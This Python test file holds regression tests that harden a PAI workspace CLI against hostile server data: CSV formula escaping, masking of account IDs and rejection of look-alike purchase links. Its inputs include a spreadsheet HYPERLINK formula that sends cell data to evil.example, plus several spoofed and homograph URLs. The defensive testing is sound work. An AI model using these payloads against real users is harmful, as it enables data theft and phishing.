"""Issue #15's findings that are not transport: each with a regression test (the transport ones
are in tests/core/test_transport_hardening.py and tests/leaks/test_transport_hardening_cli.py).

4. CSV cells that would start a formula; 8. ExtraInfos keys that are account IDs; 9. purchase
links from the server on look-alike hosts; 7 is in tests/functional/test_shell.py (escape
sequences from the CLI config) and tests/unit/test_masking_rules.py.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from paiws.core.error_report import UNEXPECTED_LINK
from paiws.screens.browse.activation_panel import ActivationPanel
from tests.leaks.hostile_bodies import detail, item, listing
from tests.leaks.leak_canaries import REGION
from tests.leaks.leak_support import CliRunner, HostileServer, Reply, service_for
from tests.leaks.leak_tui import Observer
from tests.support import SIZE, make_app, says, settle

ACCOUNT_ID_KEY = "1095312831785714"
EVIL_LINKS = [
    "https://common-buy.aliyun.com.evil.example/pai",
    "https://common-buy.\u0430liyun.com/pai",  # a Cyrillic a
    "https://evil.example\\@common-buy.aliyun.com/",
    "https://user:pw@common-buy.aliyun.com/pai",
]


def purchasable(url: str) -> Reply:
    return Reply(
        body={
            "RequestId": "R-1",
            "Products": [
                {
                    "ProductCode": "PAI_share",
                    "IsPurchased": False,
                    "HasPermissionToPurchase": True,
                    "PurchaseUrl": url,
                }
            ],
        }
    )


@pytest.fixture
def hostile() -> Iterator[HostileServer]:
    with HostileServer() as server:
        yield server


def test_csv_never_writes_a_formula_cell(
    hostile: HostileServer, cli: CliRunner, canary_creds: None
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A2,"details")'
    hostile.script["ListWorkspaces"] = Reply(
        200, listing(item(Description=formula, DisplayName="@SUM(1+1)"))
    )
    result = cli("list", "--format", "csv", "--region", REGION, "--endpoint", hostile.base_url)
    assert result.code == 0
    row = next(csv.DictReader(io.StringIO(result.out)))
    assert row["Description"] == "'" + formula and row["Display Name"] == "'@SUM(1+1)"


async def test_an_account_id_used_as_an_extra_infos_key_is_masked(
    hostile: HostileServer, observer: Observer
) -> None:
    hostile.script["ListWorkspaces"] = Reply(200, listing(item()))
    hostile.script["GetWorkspace"] = Reply(
        200, detail(ExtraInfos={ACCOUNT_ID_KEY: "PAI.WorkspaceOwner", "TenantId": "t-9999999"})
    )
    service = service_for(hostile.base_url)
    app = make_app(service, region=REGION)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await pilot.press("i", *"100001", "enter")
        await settle(pilot)
        text = observer.look(app, "detail with hostile ExtraInfos keys")
        assert ACCOUNT_ID_KEY[:8] not in text and "****5714" in text and "TenantId" in text
    service.close()


@pytest.mark.parametrize("url", EVIL_LINKS)
async def test_a_purchase_link_on_another_host_is_never_offered_or_opened(
    hostile: HostileServer, observer: Observer, cli: CliRunner, canary_creds: None, url: str
) -> None:
    hostile.script["ListProducts"] = purchasable(url)
    shown = cli("activation", "--region", REGION, "--endpoint", hostile.base_url)
    assert shown.code == 3 and "evil" not in shown.text and "\u0430" not in shown.text
    assert "pai.console" in shown.out
    service = service_for(hostile.base_url)
    app = make_app(service, region=REGION)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        panel = app.screen.query_one(ActivationPanel)
        text = observer.look(app, "activation gate with an unexpected purchase link")
        assert "evil" not in text and says(text, UNEXPECTED_LINK)
        await pilot.press("b", "y")
        await settle(pilot)
        assert observer.opened and all("pai.console" in opened for opened in observer.opened)
        assert all("evil" not in copied for copied in observer.clipboard)
        assert panel.purchase_url is not None
    service.close()
